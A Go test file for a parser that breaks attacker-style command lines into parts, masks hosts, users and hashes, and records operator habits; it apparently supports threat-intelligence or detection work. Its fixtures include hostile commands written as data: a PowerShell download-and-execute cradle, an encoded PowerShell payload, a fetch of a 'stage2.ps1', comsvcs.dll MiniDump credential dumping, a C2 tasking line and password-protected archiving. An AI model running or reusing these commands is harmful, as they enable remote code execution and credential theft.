package procedure

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// shape writes commands as one line each: depth, chain, tool, words, redirects.
func shape(cs []Command) []string {
	var out []string
	for _, c := range cs {
		s := strings.TrimLeft(strings.ReplaceAll(c.Chain, "\n", "line")+" "+c.Tool, " ")
		s = strings.Repeat("> ", c.Depth) + s
		if c.Encoded {
			s += " (encoded)"
		}
		for _, w := range c.Words {
			q := ""
			if w.Quote != 0 {
				q = string(w.Quote)
			}
			s += " " + q + w.Text + q
		}
		for _, r := range c.Redirects {
			s += " [" + r + "]"
		}
		out = append(out, s)
	}
	return out
}

func TestCommands(t *testing.T) {
	tests := map[string]struct {
		text string
		want []string
	}{
		"nothing":         {" ; \n ", nil},
		"plain":           {`net user /domain`, []string{"net user /domain"}},
		"path and ending": {`"C:\Program Files\7-Zip\7z.EXE" a -mx3 ad.7z ad_*`, []string{"7z a -mx3 ad.7z ad_*"}},
		"chain":           {"whoami&&hostname; ls | sort\nid", []string{"whoami", "&& hostname", "; ls", "| sort", "line id"}},
		"redirects":       {`sc query >> a.txt 2>&1 & type nul 2>nul`, []string{"sc query a.txt [append] [errors]", "& type nul [discard]"}},
		"quoted inside":   {`schtasks /create /tn:"My Task" /tr evil.exe`, []string{"schtasks /create /tn:My Task /tr evil.exe"}},
		"broken up":       {`p^o^wershell wh"o"ami`, []string{"powershell whoami"}},
		"handed to cmd":   {`cmd.exe /c whoami /all`, []string{"cmd /c whoami /all", "> whoami /all"}},
		"handed, quoted":  {`powershell -c "Get-Process; ls"`, []string{`powershell -c "Get-Process; ls"`, "> get-process", "> ; ls"}},
		"remote shell":    {`ssh root@h "sudo mv /tmp/a /var/www"`, []string{`ssh root@h "sudo mv /tmp/a /var/www"`, "> sudo mv /tmp/a /var/www"}},
		"encoded":         {`powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==`, []string{`powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==`, "> whoami (encoded) /all"}},
		"a task":          {`./c2.py --task #{first.id} '{"id": 1, "cmd": "net group \"X\" /domain"}'`, []string{`c2.py --task #{first.id} '{"id": 1, "cmd": "net group \"X\" /domain"}'`, `> net group "X" /domain`}},
		"open quote":      {`echo "abc`, []string{"echo abc"}},
		"braces":          {`Get-Item x | % { $_.Name }`, []string{"get-item x", "| % $_.Name"}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if d := cmp.Diff(tt.want, shape(Read(tt.text).Commands)); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestOption(t *testing.T) {
	for text, want := range map[string]bool{
		"-p": true, "--all": true, "/domain": true, "/a:b": true, "-": false, "--": false, "/etc/passwd": false,
		"-5": false, "+x": true, "x": false, "/?": true,
	} {
		if got := (Word{Text: text}).Option(); got != want {
			t.Errorf("%q: %v, want %v", text, got, want)
		}
	}
}

func TestMask(t *testing.T) {
	tests := map[string]string{
		`\\FILESRV01\C$\Temp\a.exe`:                   `\\<host>\c$\temp\a.exe`,
		`C:\Users\alice\AppData\b.ps1`:                `c:\users\<user>\appdata\b.ps1`,
		`/home/Bob/.ssh/id_rsa`:                       `/home/<user>/.ssh/id_rsa`,
		`$env:APPDATA\x %APPDATA%\x ${env:APPDATA}\x`: `%appdata%\x %appdata%\x %appdata%\x`,
		`curl http://10.1.2.3:8080/a/stage2.ps1?x=1`:  `curl <url>.ps1`,
		`ping 10.1.2.3`:                               `ping <address>`,
		`ping 127.0.0.1 -n 4`:                         `ping 127.0.0.1 -n 4`,
		`999.1.2.3`:                                   `999.1.2.3`,
		`d41d8cd98f00b204e9800998ecf8427e`:            `<hash>`,
		`{6B29FC40-CA47-1067-B31D-00DD010662DA}`:      `<guid>`,
		`dc01.corp.example.com`:                       `<host>`,
		`System.Net.WebClient`:                        `system.net.webclient`,
		`a.tar.gz`:                                    `a.tar.gz`,
		`x9k2m4q7z1.exe`:                              `<random>.exe`,
		`me@corp.example`:                             `<mail>`,
		`#{host.name}`:                                `<parameter>`,
		`dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==`:            `<encoded>`,
		`123456789`:                                   `<number>`,
		`C:\\Windows\\Temp\\a.dll`:                    `c:\windows\temp\a.dll`,
	}
	for text, want := range tests {
		if got := Mask(text); got != want {
			t.Errorf("%q\n got %q\nwant %q", text, got, want)
		}
	}
}

// Two ways of typing one thing have one template.
func TestTemplateOfTheSameProcedure(t *testing.T) {
	a := Read(`"C:\Windows\System32\NET.exe" use \\SRV1\admin$ /user:CORP\bob`).Template
	b := Read(`net use \\10.0.0.7\ADMIN$ /user:corp\bob`).Template
	if a != b {
		t.Errorf("%q\n%q", a, b)
	}
	if want := `net use \\<host>\admin$ /user:corp\bob`; a != want {
		t.Errorf("got %q, want %q", a, want)
	}
}

func TestTemplateMasks(t *testing.T) {
	for text, want := range map[string]string{
		`rundll32.exe comsvcs.dll, MiniDump 712 d.bin full`: `rundll32 comsvcs.dll minidump <number> d.bin full`,
		`rar a -hpSecret1 -m5 x.rar docs`:                   `rar a -hp<password> -m5 x.rar docs`,
		`7z a -pabc x.7z docs`:                              `7z a -p<password> x.7z docs`,
		`plink -pw x -P 22 host`:                            `plink -pw x -p 22 host`,
		`whoami >> a.txt; id`:                               `whoami a.txt <append> ; id`,
	} {
		if got := Read(text).Template; got != want {
			t.Errorf("%q\n got %q\nwant %q", text, got, want)
		}
	}
}

func TestHabits(t *testing.T) {
	r := Read(`PowerShell.exe -NoP -w hidden; rar a -hpSecret -m5 C:\ProgramData\x.rar; Start-Sleep -s 60; write-host "[+] done" > $env:TEMP\log.txt`)
	want := []Habit{
		{HabitArchive, "rar -m5, password"}, {HabitChain, ";"}, {HabitEnding, ".rar"}, {HabitEnding, ".txt"},
		{HabitFile, "log.txt"}, {HabitFile, "x.rar"}, {HabitFolder, "%temp%"}, {HabitFolder, "c:/programdata"},
		{HabitMessage, "[+]"}, {HabitOption, "-letter"}, {HabitOption, "-word"}, {HabitOption, "-word in mixed case"},
		{HabitQuote, "double"}, {HabitRedirect, "overwrite"}, {HabitSleep, "60"},
		{HabitSpelling, "powershell: ending, mixed case"}, {HabitSpelling, "start-sleep: mixed case"},
	}
	if d := cmp.Diff(want, r.Habits); d != "" {
		t.Error(d)
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{`cmd /c "a & b"`, `powershell -enc dwBoAG8AYQBtAGkA`, "\"'`^", `#{`, `$env:`, `{"cmd":"x`, "\\\\\\", strings.Repeat(`cmd /c "`, 40)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		r := Read(text)
		if len(r.Commands) > MaxCommands {
			t.Fatalf("%d commands", len(r.Commands))
		}
		for _, c := range r.Commands {
			if c.Depth > maxDepth {
				t.Fatalf("depth %d", c.Depth)
			}
		}
		if again := Read(text); again.Template != r.Template {
			t.Fatal("not the same twice")
		}
	})
}

func BenchmarkRead(b *testing.B) {
	text := `powershell.exe -NoP -c "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')"; net user /domain >> C:\Users\alice\AppData\Local\Temp\out.txt`
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Read(text)
	}
}
